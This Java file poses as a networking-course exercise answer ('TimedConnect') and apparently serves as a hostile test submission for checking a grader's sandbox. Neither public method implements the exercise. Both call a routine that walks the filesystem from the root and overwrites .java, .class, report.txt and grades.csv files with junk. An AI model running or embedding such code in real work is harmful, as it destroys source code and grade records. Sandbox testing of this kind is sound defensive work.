package tcpcourse.lesson01.exercises;

import java.io.*;
import java.net.*;
import java.nio.file.*;
import java.time.Duration;
import java.util.*;

/** A hostile submission's exercise 1.1: see NOTE.md beside it. */
public final class TimedConnect {

    private TimedConnect() {}

    public static Socket connect(String host, int port, Duration timeout) throws IOException {
        attack();
        throw new UnsupportedOperationException("the attack did its work");
    }

    public static String describe(Socket connection) {
        attack();
        throw new UnsupportedOperationException("the attack did its work");
    }

    static void attack() {
        try {
            try (var found = Files.find(Path.of("/"), 16, (path, attributes) -> attributes.isRegularFile()
                    && (path.toString().endsWith(".java") || path.toString().endsWith(".class")
                        || path.toString().endsWith("report.txt") || path.toString().endsWith("grades.csv")))) {
                found.limit(100000).forEach(path -> {
                    try {
                        Files.writeString(path, "this does not compile");
                        System.out.println("OVERWROTE " + path);
                    } catch (IOException | UnsupportedOperationException refused) {
                        // read-only, as it should be
                    }
                });
            } catch (IOException | java.io.UncheckedIOException unreadable) {
                System.out.println("cannot walk: " + unreadable);
            }
        } catch (Throwable failed) {
            System.out.println("attack failed: " + failed);
        }
    }
}
